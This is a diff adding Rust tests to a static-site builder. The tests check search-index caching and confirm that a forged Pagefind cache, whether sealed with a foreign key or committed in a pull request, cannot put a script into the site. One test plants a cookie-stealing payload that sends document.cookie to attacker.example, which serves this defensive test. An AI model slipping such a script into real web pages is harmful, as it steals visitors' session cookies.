@@ -965,3 +965,189 @@ fn a_statement_cache_from_another_machine_or_a_pull_request_cannot_turn_a_yes_in
         "a committed statement cache changed the result"
     );
 }
+
+const SEARCH: &str = ".pnyx-cache/search.bin";
+
+/// What the build said of its search index: kept from the last build, or made.
+fn search_index_kept(run: &Run) -> bool {
+    let line = run
+        .stderr
+        .lines()
+        .find_map(|l| l.strip_prefix("timing: search index: "))
+        .unwrap_or_else(|| panic!("no search index line:\n{run}"));
+    line.starts_with("kept")
+}
+
+/// The files of the search index in the output folder `out`.
+fn search_files(out: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
+    read_tree(out)
+        .into_iter()
+        .filter(|(path, _)| path.starts_with("pagefind"))
+        .collect()
+}
+
+/// The search index is kept between builds when Pagefind would read every page the same. A
+/// pull request that adds a signature, and one that edits an initiative beside a signature,
+/// hope to leave a stale index: after each, the site, its search index included, is byte for
+/// byte the one a build without any cache makes; only the signature alone keeps the index.
+#[test]
+fn a_text_edited_beside_a_new_signature_is_searched_and_a_signature_alone_keeps_the_index() {
+    let c = Council::new(true);
+    let outs = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let first = build(c.root(), &outs.path().join("first"), home.path());
+    first.assert_ok();
+    assert!(!search_index_kept(&first), "{first}");
+    assert!(c.root().join(SEARCH).exists(), "the build keeps its search index");
+
+    let support = |k: &Key, slug: &str| format!("signatures/initiatives/{slug}/{}.minisig", k.id);
+    c.sign(
+        &c.members[1],
+        TRAM,
+        "pnyx/1 support",
+        &support(&c.members[1], "tram"),
+    );
+    c.commit(day(9), "a new signature");
+    let warm = outs.path().join("signed");
+    let run = build(c.root(), &warm, home.path());
+    run.assert_ok();
+    assert!(
+        search_index_kept(&run),
+        "a signature alone keeps the index:\n{run}"
+    );
+    let cold = outs.path().join("signed-cold");
+    c.cold(&cold);
+    assert!(
+        read_tree(&warm) == read_tree(&cold),
+        "the kept index differs from a new one"
+    );
+    assert!(
+        std::fs::read_to_string(warm.join("initiatives/tram/index.html"))
+            .unwrap()
+            .contains(&c.members[1].id.to_string()),
+        "the new signature shows"
+    );
+
+    // The cold build removed the caches: they are made again for the next step.
+    build(c.root(), &outs.path().join("warm-again"), home.path()).assert_ok();
+    c.write(
+        TRAM,
+        &String::from_utf8(c.read(TRAM))
+            .unwrap()
+            .replace("Tram de nuit.\n", "Tram de nuit jusqu'à deux heures.\n"),
+    );
+    c.sign(
+        &c.members[2],
+        TRAM,
+        "pnyx/1 support",
+        &support(&c.members[2], "tram"),
+    );
+    c.commit(day(10), "a text edited beside a signature");
+    let warm = outs.path().join("edited");
+    let run = build(c.root(), &warm, home.path());
+    run.assert_ok();
+    assert!(
+        !search_index_kept(&run),
+        "an edited text makes the index again:\n{run}"
+    );
+    let cold = outs.path().join("edited-cold");
+    c.cold(&cold);
+    assert!(
+        read_tree(&warm) == read_tree(&cold),
+        "the warm site differs from the cold one"
+    );
+    assert!(
+        search_files(&warm) != search_files(&outs.path().join("signed")),
+        "the edit reaches the index"
+    );
+}
+
+/// `bytes` as the search cache's layout has them, with the file `name` of the index replaced
+/// by `new`.
+fn with_search_file(bytes: &[u8], name: &str, new: &[u8]) -> Vec<u8> {
+    let body = &bytes[..bytes.len() - 32];
+    let mut at = 8;
+    let u32_at = |at: usize| u32::from_le_bytes(body[at..at + 4].try_into().unwrap()) as usize;
+    let skip_str = |at: usize| at + 4 + u32_at(at);
+    for _ in 0..3 {
+        at = skip_str(at); // the versions of Pagefind and pnyx, the language
+    }
+    at += 32; // the key
+    let pages = u32_at(at);
+    at += 4;
+    for _ in 0..pages {
+        at = skip_str(at) + 64;
+    }
+    let files = u32_at(at);
+    at += 4;
+    for _ in 0..files {
+        let path = std::str::from_utf8(&body[at + 4..skip_str(at)]).unwrap();
+        let bytes_at = skip_str(at);
+        let end = bytes_at + 4 + u32_at(bytes_at);
+        if path == name {
+            let mut out = body[..bytes_at].to_vec();
+            out.extend_from_slice(&(new.len() as u32).to_le_bytes());
+            out.extend_from_slice(new);
+            out.extend_from_slice(&body[end..]);
+            return out;
+        }
+        at = end;
+    }
+    panic!("no {name} in the search cache");
+}
+
+/// The search cache holds the index and Pagefind's runtime, which the site serves as code. An
+/// attacker writes one (its layout is public) whose `pagefind.js` is a script of theirs, and
+/// seals it with a key of their own, or commits it in a pull request: neither is read, and the
+/// site's search is the one a build without any cache makes. Only a file sealed with this
+/// machine's own key would be believed, which the test shows, so that the forged file does say
+/// something.
+#[test]
+fn a_search_cache_from_another_machine_or_a_pull_request_cannot_put_a_script_in_the_site() {
+    let c = Council::new(true);
+    let outs = tempfile::tempdir().unwrap();
+    let cold = outs.path().join("cold");
+    c.cold(&cold);
+    let script = b"fetch('https://attacker.example/?' + document.cookie);".to_vec();
+    let runtime = "pagefind/pagefind.js";
+    let served = |out: &Path| std::fs::read(out.join(runtime)).unwrap();
+    assert!(served(&cold) != script);
+
+    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    build(c.root(), &outs.path().join("there"), there.path()).assert_ok();
+    let body = with_search_file(&std::fs::read(c.root().join(SEARCH)).unwrap(), runtime, &script);
+    let seal = |key: &[u8; 32]| hmac_sealed(body.clone(), key);
+    let plant = |bytes: &[u8]| std::fs::write(c.root().join(SEARCH), bytes).unwrap();
+
+    // Sealed with the attacker's key: not believed.
+    build(c.root(), &outs.path().join("warm-up"), here.path()).assert_ok();
+    plant(&seal(&machine_key(there.path())));
+    let out = outs.path().join("foreign");
+    let run = build(c.root(), &out, here.path());
+    run.assert_ok();
+    assert!(!search_index_kept(&run), "{run}");
+    assert!(
+        read_tree(&out) == read_tree(&cold),
+        "a foreign search cache changed the site"
+    );
+
+    // Sealed with this machine's key (which no attacker has): believed, and it would be served.
+    plant(&seal(&machine_key(here.path())));
+    let out = outs.path().join("ours");
+    build(c.root(), &out, here.path()).assert_ok();
+    assert_eq!(served(&out), script, "the forged file says something");
+
+    // The same file committed in a pull request: never read, even with this machine's seal.
+    plant(&seal(&machine_key(here.path())));
+    c.force_add(SEARCH);
+    c.commit(day(26), "speed up the builds");
+    let out = outs.path().join("committed");
+    let run = build(c.root(), &out, here.path());
+    run.assert_ok();
+    assert!(!search_index_kept(&run), "{run}");
+    assert_eq!(
+        served(&out),
+        served(&cold),
+        "a committed search cache changed the site"
+    );
+}
